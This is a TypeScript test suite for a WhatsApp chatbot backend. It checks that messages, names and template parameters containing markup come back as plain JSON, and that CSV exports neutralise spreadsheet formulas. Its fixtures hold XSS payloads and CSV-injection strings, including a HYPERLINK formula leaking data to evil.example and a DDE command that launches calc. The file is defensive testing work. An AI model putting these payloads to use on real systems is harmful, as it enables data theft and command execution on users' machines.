// Markup and spreadsheet formulas in everything people type or WhatsApp delivers: a customer's message
// (through the real webhook), client names and projects, segment names, bot names and instructions,
// template parameters. The API hands each back as data — JSON, byte for byte, never rendered or
// "cleaned" into something else — and every export keeps formulas inert.
import type { MassMessage } from '@hablabot/contract';
import { type FakeGraphApi, startFakeGraphApi } from '@hablabot/fakes';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Cast, type TestApi, createCastApi } from './http';
import { inboundBody, signedRequest } from './whatsapp-webhook';
import { waitFor } from './wait';
import { connectWhatsApp } from './whatsapp-company';

const engine = process.env.TEST_DATABASE_URL ? 'postgres' : 'sqlite';
const TOKEN = 'EAAG-injection-test-token';
const PHONE_ID = '106540352242990';
const APP_SECRET = 'injection-app-secret';

/** Markup that would run if any screen put it in the page as HTML, with WhatsApp formatting mixed in. */
const HTML = '<img src=x onerror=alert(1)><script>alert(2)</script>**b** __i__ "q" \'s\' &amp;';
/** The same, short enough for any name field. */
const NAME_HTML = '<img src=x onerror=alert(1)>**b**';
/** Cells a spreadsheet would run. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Haz clic")',
  '@SUM(1+1)',
  "+cmd|' /C calc'!A0",
  '-2+3',
];

let ctx: TestApi;
let cast: Cast;
let companyA: number;
let fake: FakeGraphApi;

beforeAll(async () => {
  fake = await startFakeGraphApi({
    tokens: [TOKEN],
    phoneNumbers: [
      { id: PHONE_ID, display_phone_number: '15550783890', verified_name: 'A', quality_rating: 'GREEN' },
    ],
  });
  ({ api: ctx, cast, companyA } = await createCastApi({ cloudApiTimeoutMs: 2000 }));
  await connectWhatsApp(ctx.container, companyA, {
    phoneId: PHONE_ID,
    token: TOKEN,
    appSecret: APP_SECRET,
    baseUrl: fake.baseUrl,
  });
  await ctx.container.jobs.start();
});
afterAll(async () => {
  await Promise.all([ctx.close(), fake.close()]);
});

const as = (method: 'GET' | 'POST' | 'PUT', path: string, body?: unknown) =>
  ctx.call(method, path, body, { as: cast.admin });

/** A JSON answer a browser could never take for a page. */
function expectJson(res: LightMyRequestResponse, status = 200) {
  expect(res.statusCode, res.body).toBe(status);
  expect(res.headers['content-type']).toMatch(/^application\/json/);
  expect(res.headers['x-content-type-options']).toBe('nosniff');
  return res.json();
}

/** Splits one CSV line (quotes doubled inside quoted cells). */
function csvCells(line: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i <= line.length) {
    if (line[i] === '"') {
      let value = '';
      i++;
      for (;;) {
        if (line[i] === '"' && line[i + 1] === '"') {
          value += '"';
          i += 2;
        } else if (line[i] === '"') {
          i++;
          break;
        } else value += line[i++];
      }
      cells.push(value);
      i++;
    } else {
      const end = line.indexOf(',', i);
      cells.push(line.slice(i, end === -1 ? line.length : end));
      i = end === -1 ? line.length + 1 : end + 1;
    }
  }
  return cells;
}

describe(`markup and formulas are data (${engine})`, () => {
  it('keeps a customer message and WhatsApp profile name with markup as text, in the chat list and the conversation', async () => {
    const phone = '34611222333';
    const res = await ctx.app.inject(
      signedRequest(
        inboundBody(
          PHONE_ID,
          phone,
          'text',
          { text: { body: HTML } },
          { name: `<b onmouseover=alert(3)>Eva</b>` },
        ),
        APP_SECRET,
      ),
    );
    expect(res.statusCode, res.body).toBe(200);
    const summary = await waitFor(async () => {
      const body = expectJson(await as('GET', '/admin/client/messages-summary'));
      return body.clients.find((c: { whatsapp_cellphone: string }) => c.whatsapp_cellphone === phone);
    });
    // The preview of the last message and the name WhatsApp gave are the text as it came.
    expect(JSON.stringify(summary)).toContain(JSON.stringify(HTML).slice(1, -1));
    expect(JSON.stringify(summary)).toContain('<b onmouseover=alert(3)>Eva</b>');
    const history = expectJson(await as('GET', `/admin/client/${summary.id}/messages`));
    const message = history.messages.find((m: { content: string }) => m.content === HTML);
    expect(message, JSON.stringify(history)).toBeDefined();
  });

  it('hands back names, projects, segments, bots and instructions with markup exactly as typed', async () => {
    const segment = expectJson(
      await as('POST', '/admin/segment', { name: `VIP ${NAME_HTML}`, color: '#7300ff', rules: HTML }),
      201,
    );
    const segmentId = segment.segment.id as number;
    const client = expectJson(
      await as('POST', '/admin/client', {
        name: FORMULAS[0],
        last_names: NAME_HTML,
        whatsapp_cellphone: '34611222444',
        email: 'eva@example.test',
        projects: `${FORMULAS[1]}\n${HTML}`,
        segments: [segmentId],
      }),
      201,
    );
    const created = client.client;
    const read = expectJson(await as('GET', `/admin/client/${created.id}`));
    const readClient = read.client;
    expect(readClient.name).toBe(FORMULAS[0]);
    expect(readClient.last_names).toBe(NAME_HTML);
    expect(readClient.projects).toBe(`${FORMULAS[1]}\n${HTML}`);
    const segments = expectJson(await as('GET', '/admin/segment'));
    expect(JSON.stringify(segments)).toContain(JSON.stringify(`VIP ${NAME_HTML}`).slice(1, -1));

    const bot = expectJson(await as('POST', '/admin/bot', { bot_name: NAME_HTML, personality: HTML }), 201);
    const botData = bot.bot;
    const bots = expectJson(await as('GET', '/admin/bot'));
    const listed = bots.bots.find((b: { id: number }) => b.id === botData.id);
    expect(listed.bot_name).toBe(NAME_HTML);
    const instruction = expectJson(
      await as('POST', '/admin/instruction', {
        bot_id: botData.id,
        ask: `¿Precio? ${HTML}`,
        reply: HTML,
        segments: [segmentId],
      }),
      201,
    );
    const instructions = expectJson(await as('GET', `/admin/instructions/${botData.id}`));
    expect(instructions.data.find((i: { id: number }) => i.id === instruction.data.id)).toMatchObject({
      ask: `¿Precio? ${HTML}`,
      reply: HTML,
    });
  });

  it('sends template parameters with markup as they are, and exports the report with every formula inert', async () => {
    const segment = expectJson(
      await as('POST', '/admin/segment', { name: '@Segmento', color: '#7300ff', rules: 'x' }),
      201,
    );
    const segmentId = segment.segment.id as number;
    const ids: number[] = [];
    for (const [i, formula] of FORMULAS.entries()) {
      const res = expectJson(
        await as('POST', '/admin/client', {
          name: formula,
          last_names: i % 2 ? '@Apellido' : '=1+1',
          whatsapp_cellphone: `3461133300${i}`,
          email: `f${i}@example.test`,
          segments: [segmentId],
        }),
        201,
      );
      ids.push(res.client.id);
    }
    const list = expectJson(
      await as('POST', '/admin/list-clients', { name: `=Lista ${NAME_HTML}`, client_ids: ids }),
      201,
    );
    const at = new Date().toISOString();
    const template = await ctx.container.db
      .insertInto('message_templates')
      .values({
        company_id: companyA,
        meta_id: '880001',
        name: 'saludo',
        language: 'es',
        status: 'APPROVED',
        category: 'MARKETING',
        components: JSON.stringify([{ type: 'BODY', format: null, text: 'Hola {{1}}, {{2}}.', buttons: [] }]),
        created_at: at,
        updated_at: at,
      })
      .returning('id')
      .executeTakeFirstOrThrow();
    const sent = expectJson(
      await as('POST', '/admin/messages-massive', {
        name: `=Campaña ${NAME_HTML}`,
        message_template_id: template.id,
        list_id: list.data.id,
        bodyParameters: { 1: '{{Nombre}}', 2: HTML },
      }),
      201,
    );
    const send: MassMessage = sent.data;
    await waitFor(async () => {
      const detail = expectJson(await as('GET', `/admin/messages-massive/${send.id}`));
      return ['completed', 'failed', 'cancelled'].includes(detail.data.status);
    });
    // WhatsApp got the parameter as text: no escaping, no stripping.
    expect(fake.sent).toHaveLength(FORMULAS.length);
    for (const message of fake.sent) {
      expect(JSON.stringify(message.body)).toContain(JSON.stringify(HTML).slice(1, -1));
    }
    const history = expectJson(await as('GET', '/admin/mass-message-history'));
    expect(JSON.stringify(history)).toContain(JSON.stringify(`=Campaña ${NAME_HTML}`).slice(1, -1));

    const csv = await as('GET', `/admin/messages-massive/${send.id}/recipients/export`);
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toMatch(/^attachment;/);
    const lines = csv.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    const header = csvCells(lines[0]);
    const rows = lines.slice(1).map(csvCells);
    expect(rows).toHaveLength(FORMULAS.length);
    const nameAt = header.indexOf('name');
    const lastAt = header.indexOf('last_names');
    expect(rows.map((r) => r[nameAt]).sort()).toEqual(FORMULAS.map((f) => `'${f}`).sort());
    expect(rows.map((r) => r[lastAt]).sort(), JSON.stringify(rows)).toEqual([
      "'=1+1",
      "'=1+1",
      "'@Apellido",
      "'@Apellido",
    ]);
    // No cell anywhere in the file starts a formula; numbers stay numbers.
    for (const row of rows) {
      for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
      expect(row[header.indexOf('client_id')]).toMatch(/^\d+$/);
      expect(row[header.indexOf('phone')]).toMatch(/^\d+$/);
    }
  });
});
